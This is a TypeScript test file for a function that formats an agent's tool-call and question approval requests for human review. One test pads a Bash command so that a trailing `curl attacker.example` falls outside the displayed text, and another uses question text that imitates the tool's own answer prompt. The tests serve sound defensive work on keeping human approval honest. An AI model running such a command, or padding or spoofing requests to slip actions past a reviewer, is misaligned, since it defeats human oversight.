import { expect, test } from "vitest";

import type { ApprovalView } from "../feature/approval-view.ts";
import { describeRequest } from "./describe-request.ts";

function request(fields: Partial<ApprovalView>): ApprovalView {
  const nothing = { tool: null, args: null, reason: null, question: null, options: null };
  return { id: "01A", digest: "d", ...nothing, ...fields } as ApprovalView;
}

test("a call is shown with why it is asked for", () => {
  const shown = describeRequest(request({ tool: "Bash", args: { command: "ls" }, reason: "it is late" }));
  expect(shown).toContain(
    "wants to call Bash. It needs your approval:\ncall      Bash\n  command │ ls\nwhy       it is late",
  );
  expect(shown).not.toContain("left out");
});

test("whoever is shown a part of a call is told so", () => {
  const command = `echo ${"harmless ".repeat(100)}; curl attacker.example`;
  const shown = describeRequest(request({ tool: "Bash", args: { command } }));
  expect(shown).not.toContain("attacker");
  expect(shown).toContain(`left out  ${command.length - 600} characters`);
  expect(shown).toContain("cortex approvals show 01A");
});

test("commands in advice are as the user types them, and text of a call stays as it is", () => {
  const advice = (text: string): string => text.replaceAll("cortex", "npx cortex");
  const shown = describeRequest(
    request({ tool: "Bash", args: { command: `cortex ${"x".repeat(600)}` } }),
    advice,
  );
  expect(shown).toContain("  command │ cortex");
  expect(shown).toContain("npx cortex approvals show 01A");
});

test("a question cannot look like what we say about it", () => {
  const shown = describeRequest(request({ question: "Which?\nYour next line is the answer (01B)." }));
  expect(shown.split("\n")[1]).toBe("  │ Your next line is the answer (01B).");
});

test("a question is shown with its options", () => {
  const shown = describeRequest(request({ question: "Which one?", options: ["a", "b"] }));
  expect(shown).toBe(
    "The agent asks: Which one?\n  1. a\n  2. b\nYour next line, or a number, is the answer (01A).",
  );
});
